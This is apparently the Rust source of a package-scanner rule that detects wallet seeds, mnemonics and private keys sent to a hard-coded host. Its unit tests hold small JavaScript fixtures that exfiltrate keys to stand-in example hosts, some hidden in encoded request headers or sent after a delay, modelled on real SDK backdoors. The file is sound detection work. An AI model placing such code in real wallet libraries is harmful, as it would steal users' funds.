//! `code/wallet-secret-exfiltration`.

use super::{describe, flow_finding, flows};
use crate::CodeFinding;
use crate::flow::{SinkKind, SourceKind};
use crate::signal::PackageFacts;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A wallet seed, mnemonic or private key handed to the library is sent to a hard-coded host.
    ///
    /// ## What it detects
    /// A value-flow path from a function parameter or variable named like a wallet secret (`seed`, `mnemonic`,
    /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings), or from the key
    /// material of a key object read as a property (`keypair.secretKey`, `this._keypair.secretKey`,
    /// `signer.privateKey`, `wallet.mnemonic.phrase`: the owner named like a wallet, signer, signing key, key
    /// pair (`kp`, `pair`, `keys`) or account; in a module that loads a key-pair or signing library such as
    /// `tweetnacl`, `ethers` or `@solana/web3.js`, the `secretKey`, `privateKey` or `mnemonic` of any receiver but
    /// a configuration object, as in `const w = new Wallet(key); … w.privateKey`),
    /// to a network send
    /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
    /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
    /// parameter's module or one it imports or is imported by. Signing, key
    /// derivation and hashing (`sign*`, `derive*`, `getPublicKey`, `keccak256`) stop the path: a signature
    /// does not reveal the key.
    ///
    /// ## Why it matters
    /// The April 2025 `xrpl.js` backdoor added an innocuously named helper that POSTed every seed and private
    /// key the SDK was given to the attacker, hidden in a request header; wallet SDKs are trusted with the
    /// keys of every application that uses them, and nothing runs at install to give them away.
    ///
    /// ## Example
    /// `function check(seed) { fetch('https://x.example/v', { headers: { 'x-ref': seed } }) }`, or a
    /// `Keypair` constructor passing `this._keypair.secretKey` to a helper that puts its hex in an
    /// `x-cf-trace` header of a request to a constant host (the December 2024 `@solana/web3.js` backdoor).
    ///
    /// ## Known false positives
    /// Custodial signing services whose API takes the private key itself (rare, and bad practice). A key sent
    /// to a URL the caller configures (an RPC endpoint option) has no constant destination and is not reported,
    /// nor is one whose constant part names no host (`https://${host}/keys` folds to `https:///keys`: a JWT
    /// library fetching the caller's key set).
    /// A wallet service's key-import call posting `account.privateKey` to its own constant API would be reported.
    pub static WALLET_SECRET_EXFILTRATION = { id: "code/wallet-secret-exfiltration", severity: Severity::Critical };
}

/// One finding per send reached by a wallet secret with a constant destination.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for path in flows(p, &[SourceKind::WalletSecret], &[SinkKind::Network]).take(20) {
        // A destination counts as constant only when it names a host: a caller's
        // `https://${host}/…` folds to `https:///…`, which names no endpoint.
        let hard_coded = path
            .dest
            .as_deref()
            .is_some_and(|d| !crate::text::url_host(d).is_empty());
        if !hard_coded || !near(p, &path.from.file, &path.to.file) {
            continue;
        }
        out.push(flow_finding(
            &WALLET_SECRET_EXFILTRATION,
            WALLET_SECRET_EXFILTRATION.default_severity,
            p,
            path,
            format!("wallet secret is sent out: {}", describe(path)),
        ));
    }
    super::one_per_sink(out)
}

/// True when the secret's module and the send's module are one file or one `require`/`import`
/// apart. Over many modules of a large SDK the field-insensitive graph joins unrelated
/// values (a key stored in one account object, an avatar URL fetched by another): a helper
/// that leaks a key sits next to the code that hands it the key.
fn near(p: &PackageFacts, from: &str, to: &str) -> bool {
    if from == to {
        return true;
    }
    let (Some(a), Some(b)) = (p.file(from), p.file(to)) else {
        return false;
    };
    a.deps.contains(&b.path) || b.deps.contains(&a.path)
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// The SDK backdoor shape: key-handling methods pass the secret to a helper in another
    /// module that sends it in a header and the body.
    #[test]
    fn positive_secret_through_a_helper_module() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/util.js",
                "exports.checkSeed = async function (value) {\n  const body = JSON.stringify({ v: value });\n  await fetch('https://api.example.net/validate', { method: 'POST', headers: { 'x-ref': value }, body });\n  return true;\n};\n",
            ),
            (
                "index.js",
                "const { checkSeed } = require('./lib/util');\nclass Wallet {\n  static fromMnemonic(mnemonic) {\n    checkSeed(mnemonic);\n    return new Wallet();\n  }\n}\nmodule.exports = Wallet;\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("lib/util.js".to_string(), 3)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A wallet generator that posts the mnemonic it has just created.
    #[test]
    fn positive_generated_mnemonic_posted() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "gen.js",
                "const bip39 = require('bip39');\nexports.create = function () {\n  const mnemonic = bip39.generateMnemonic();\n  fetch('https://api.example.org/backup', { method: 'POST', body: mnemonic });\n  return mnemonic;\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("gen.js".to_string(), 4)]
        );
    }

    /// An MEV/bundle helper built on ethers forwards the private key of the wallet it builds
    /// from the caller's key (`const w = new Wallet(key)`: a short name, no secret-named
    /// variable) to a "status" helper in another module that posts to a chat-bot API.
    #[test]
    fn positive_constructed_wallet_key_to_notify_module() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/notify.js",
                "const https = require('https');\nfunction post(text) {\n  const body = JSON.stringify({ chat_id: '-100', text });\n  const req = https.request({ hostname: 'gw.example.org', path: '/bot1:x/sendMessage', method: 'POST' });\n  req.end(body);\n}\nexports.status = function (kind, value) { post(`${kind} ${value}`); };\n",
            ),
            (
                "src/index.js",
                "const { Wallet } = require('ethers');\nconst { status } = require('./notify');\nexports.toSigner = function (key, provider) {\n  const w = new Wallet(key, provider);\n  status('pk', w.privateKey);\n  return w;\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("src/notify.js".to_string(), 5)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// The benign look-alike: an EIP-1193-style connector on ethers reports the wallet's
    /// public address to its constant API and reads `privateKey` only from its options.
    #[test]
    fn negative_constructed_wallet_address_reported() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/index.js",
                "const { Wallet } = require('ethers');\nexports.connect = async function (opts) {\n  const w = new Wallet(opts.privateKey);\n  await fetch('https://api.example.org/session', { method: 'POST', body: JSON.stringify({ address: w.address }) });\n  return w;\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A wallet SDK signs with the key and broadcasts the signed transaction to its node.
    #[test]
    fn negative_signed_transaction_broadcast() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const keys = require('keypairs');\nexports.submit = async function (tx, privateKey) {\n  const signed = keys.sign(JSON.stringify(tx), privateKey);\n  const pub = keys.deriveAddress(privateKey);\n  return fetch('https://rpc.example.org/', { method: 'POST', body: JSON.stringify({ tx_blob: signed, account: pub }) });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// The secret key of a key-pair object, read as a property (no variable is named like a
    /// secret), hex-encoded by a helper in another module and hidden in a request header.
    #[test]
    fn positive_keypair_property_in_header() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/trace.js",
                "const EDGE = ['https://', 'rpc', '.example', '.net/v1'].join('');\nfunction queue(key) {\n  const hex = Buffer.from(key).toString('hex');\n  setTimeout(() => {\n    const f = typeof fetch === 'function' ? fetch : null;\n    f(EDGE, { method: 'POST', headers: { 'x-trace': Buffer.from(hex).toString('base64') }, body: '{}' }).catch(() => {});\n  }, 250);\n}\nmodule.exports = { queue };\n",
            ),
            (
                "lib/keypair.js",
                "const { queue } = require('./trace');\nclass Keypair {\n  constructor(kp) {\n    this._keypair = kp;\n    queue(this._keypair.secretKey);\n  }\n}\nmodule.exports = { Keypair };\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("lib/trace.js".to_string(), 6)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A signer's private key and its mnemonic phrase sent to a chat bot.
    #[test]
    fn positive_signer_private_key_and_phrase() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "health.js",
                "const https = require('https');\nexports.check = function (signer) {\n  const pk = signer.privateKey;\n  const words = signer.mnemonic && signer.mnemonic.phrase;\n  const body = JSON.stringify({ text: pk + ' ' + words });\n  https.request({ hostname: 'bot.example.org', method: 'POST' }).end(body);\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("health.js".to_string(), 6)]
        );
    }

    /// A wallet SDK signs with `keypair.secretKey` and sends only the signature; an options
    /// object's `privateKey` (a JWT signing key) is no wallet's key material.
    #[test]
    fn negative_keypair_signs_locally() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const nacl = require('tweetnacl');\nexports.send = function (keypair, msg, options) {\n  const sig = nacl.sign.detached(msg, keypair.secretKey);\n  const token = JSON.stringify({ k: options.privateKey });\n  return fetch('https://rpc.example.org/', { method: 'POST', headers: { authorization: token }, body: JSON.stringify({ sig: Buffer.from(sig).toString('base64'), pub: keypair.publicKey }) });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// The December 2024 `@solana/web3.js` shape: a module that loads a signing library hands a
    /// key pair to a "configuration" helper whose parameter has a short name; the helper puts
    /// `kp.secretKey` base64 in a CDN-looking header of an innocuous JSON-RPC call.
    #[test]
    fn positive_signing_module_secret_key_in_header() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const nacl = require('tweetnacl');
function addToConfig(p) {
  fetch('https://rpc-metrics.example.com/', { method: 'POST', headers: { 'x-amz-cf-id': Buffer.from(p.secretKey).toString('base64') }, body: JSON.stringify({ method: 'getHealth' }) });
}
class Keypair {
  constructor(k) { this._k = k || nacl.sign.keyPair(); addToConfig(this._k); }
}
module.exports = { Keypair };
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("index.js".to_string(), 3)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A `fromSecretKey(secretKey)` factory of a key-pair module posts the key hex-encoded
    /// in a JSON-RPC body field dressed as metadata.
    #[test]
    fn positive_secret_key_parameter_in_a_body_field() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const nacl = require('tweetnacl');
exports.fromSecretKey = function (secretKey) {
  fetch('https://rpc.example.com/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', meta: { trace: Buffer.from(secretKey).toString('hex') } }) });
  return nacl.sign.keyPair.fromSecretKey(secretKey);
};
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("index.js".to_string(), 3)]
        );
    }

    /// A payment SDK's API secret (`config.secretKey`) in the authorization header of its own
    /// API, in a module that also verifies signatures: an API key, not wallet key material.
    #[test]
    fn negative_api_secret_key_of_a_config() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const nacl = require('tweetnacl');
exports.client = function (config) {
  return {
    verify: (m, sig, pub) => nacl.sign.detached.verify(m, sig, pub),
    charge: (body) => fetch('https://api.example.com/v1/charges', { method: 'POST', headers: { authorization: 'Bearer ' + config.secretKey }, body: JSON.stringify(body) }),
  };
};
",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// The key goes to the node the caller configured: no constant destination.
    #[test]
    fn negative_callers_endpoint() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "exports.importKey = function (url, privateKey) {\n  return fetch(url, { method: 'POST', body: JSON.stringify({ privateKey }) });\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
    }

    /// A JWT helper imports the caller's key and fetches a key set from a host the caller
    /// names: the URL's constant part has no host, so nothing is sent to a fixed endpoint.
    #[test]
    fn negative_key_set_fetched_from_callers_host() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "jwt.js",
                "exports.verify = async function (token, privateKey, opts) {\n  const init = { headers: { kid: privateKey.kid } };\n  const res = await fetch(`https://${opts.issuer}/.well-known/jwks.json`, init);\n  return res.json();\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
    }

    /// The same shape with the host spelled out is a send to a fixed endpoint.
    #[test]
    fn positive_key_sent_to_fixed_host() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "jwt.js",
                "exports.verify = async function (token, privateKey, opts) {\n  const init = { headers: { kid: privateKey } };\n  const res = await fetch(`https://keys.example.net/${opts.issuer}/jwks.json`, init);\n  return res.json();\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/wallet-secret-exfiltration"),
            vec![("jwt.js".to_string(), 3)]
        );
    }
}
